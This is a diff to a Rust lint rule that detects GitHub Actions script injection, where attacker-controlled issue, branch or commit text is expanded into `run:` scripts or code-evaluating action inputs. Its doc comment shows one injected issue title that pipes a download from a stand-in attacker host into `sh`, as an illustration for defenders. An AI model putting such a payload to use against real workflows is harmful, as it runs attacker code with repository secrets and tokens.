@@ -1,26 +1,30 @@
 use trustmap_model::Model;
 use trustmap_model::gha::{Expression, Job, KeyValue, Scalar, Step, Workflow};
 
-use super::contexts::is_attacker_controlled;
+use super::contexts::{contains_attacker_controlled, is_attacker_controlled};
 use super::env_entry;
 use crate::{Related, Rule, RuleMeta, Sink, declare_rule};
 
 declare_rule! {
     /// ## What it finds
     ///
-    /// A `${{ … }}` expression inside a `run:` script (or the `script:` of
-    /// `actions/github-script`) that expands a value an outsider writes: issue, pull request,
-    /// comment, review and discussion titles and bodies, branch names (`github.head_ref`,
-    /// `…head.ref`, `workflow_run.head_branch`), commit messages and author names, wiki page
-    /// names. It also follows one hop through `env:`: `TITLE: ${{ github.event.issue.title }}`
-    /// and then `${{ env.TITLE }}` in the script.
+    /// A `${{ … }}` expression that pastes attacker-controlled text into a script.
+    ///
+    /// The script is a `run:`, or an action input evaluated as code: `script:` of
+    /// `actions/github-script` and `Amadevus/pwsh-script`, `cmd:` of `mikefarah/yq` — that
+    /// expands a value an outsider writes: issue, pull request, comment, review and discussion
+    /// titles and bodies, branch names (`github.head_ref`, `…head.ref`,
+    /// `workflow_run.head_branch`), commit messages and author names, wiki page names. It also
+    /// follows one hop through `env:`: `TITLE: ${{ github.event.issue.title }}` and then `${{
+    /// env.TITLE }}` in the script. A value that only feeds a comparison or `contains(…)`
+    /// passes: the expression then expands to `true` or `false`.
     ///
     /// ## Why it matters
     ///
-    /// GitHub pastes the expression's value into the script text before the shell runs it.
-    /// An issue titled `"; curl -sSf https://evil.example/x | sh; echo "` becomes shell code
-    /// running in your workflow, with its `GITHUB_TOKEN`, its secrets and its runner. Anyone
-    /// on the internet can open an issue or name a branch; no review stands in the way.
+    /// GitHub pastes the expression's value into the script text before the shell runs it. An
+    /// issue titled `"; curl -sSf https://evil.example/x | sh; echo "` becomes shell code
+    /// running in your workflow, with its `GITHUB_TOKEN`, its secrets and its runner. Anyone on
+    /// the internet can open an issue or name a branch; no review stands in the way.
     ///
     /// ## Example
     ///
@@ -73,14 +77,16 @@ impl Rule for GhaScriptInjection {
         for w in &model.workflows {
             for job in &w.jobs {
                 for step in &job.steps {
-                    let mut sinks: Vec<(&Scalar, &str)> = Vec::new();
+                    let mut sinks: Vec<(&Scalar, String)> = Vec::new();
                     if let Some(run) = &step.run {
-                        sinks.push((run, "`run` script"));
+                        sinks.push((run, "the `run` script".to_string()));
                     }
-                    if step.uses_action("actions/github-script")
-                        && let Some(script) = step.input("script")
-                    {
-                        sinks.push((&script.value, "`github-script` script"));
+                    for (action, input) in CODE_INPUTS {
+                        if step.uses_action(action)
+                            && let Some(code) = step.input(input)
+                        {
+                            sinks.push((&code.value, format!("the `{input}` input of `{action}`")));
+                        }
                     }
                     if sinks.is_empty() {
                         continue;
@@ -90,7 +96,7 @@ impl Rule for GhaScriptInjection {
                         for e in &scalar.expressions {
                             if let Some(hit) = injected(w, job, step, e) {
                                 clean = false;
-                                report(out, job, e, &hit, place);
+                                report(out, job, e, &hit, &place);
                             }
                         }
                     }
@@ -101,6 +107,23 @@ impl Rule for GhaScriptInjection {
             }
         }
     }
+}
+
+/// Action inputs that are evaluated as code: (action, input).
+const CODE_INPUTS: &[(&str, &str)] = &[
+    ("actions/github-script", "script"),
+    ("Amadevus/pwsh-script", "script"),
+    ("mikefarah/yq", "cmd"),
+];
+
+/// True when the expression serialises a whole object (`toJSON(github.event)`).
+fn serialises(e: &Expression) -> bool {
+    e.inner.to_ascii_lowercase().contains("tojson(")
+}
+
+/// An attacker-controlled value, or an object holding one that the expression serialises.
+fn dangerous(e: &Expression, path: &str) -> bool {
+    is_attacker_controlled(path) || (serialises(e) && contains_attacker_controlled(path))
 }
 
 /// How an expression brings attacker-controlled text in.
@@ -116,31 +139,34 @@ fn injected<'a>(
     step: &'a Step,
     e: &'a Expression,
 ) -> Option<Hit<'a>> {
-    e.contexts.iter().find_map(|c| {
-        if is_attacker_controlled(&c.path) {
-            return Some(Hit::Direct(&c.path));
-        }
-        let name = c.path.strip_prefix("env.")?;
-        let kv = env_entry(w, job, Some(step), name)?;
-        let inner = kv
-            .value
-            .expressions
-            .iter()
-            .flat_map(|e| &e.contexts)
-            .find(|c| is_attacker_controlled(&c.path))?;
-        Some(Hit::Env(kv, &inner.path))
-    })
+    e.contexts
+        .iter()
+        .filter(|c| c.flows_to_result)
+        .find_map(|c| {
+            if dangerous(e, &c.path) {
+                return Some(Hit::Direct(&c.path));
+            }
+            let name = c.path.strip_prefix("env.")?;
+            let kv = env_entry(w, job, Some(step), name)?;
+            let inner = kv
+                .value
+                .expressions
+                .iter()
+                .flat_map(|e| e.contexts.iter().map(move |c| (e, c)))
+                .find(|(e, c)| c.flows_to_result && dangerous(e, &c.path))?;
+            Some(Hit::Env(kv, &inner.1.path))
+        })
 }
 
 fn report(out: &mut Sink, job: &Job, e: &Expression, hit: &Hit<'_>, place: &str) {
     match hit {
         Hit::Direct(path) => {
-            let message = format!("attacker-controlled `{path}` is expanded into the {place}");
+            let message = format!("attacker-controlled `{path}` is expanded into {place}");
             out.report(&job.meta, e.span, &[], message);
         }
         Hit::Env(kv, path) => {
             let message = format!(
-                "`env.{}` holds attacker-controlled `{path}` and is expanded into the {place}",
+                "`env.{}` holds attacker-controlled `{path}` and is expanded into {place}",
                 kv.key
             );
             out.report(&job.meta, e.span, &[], message)
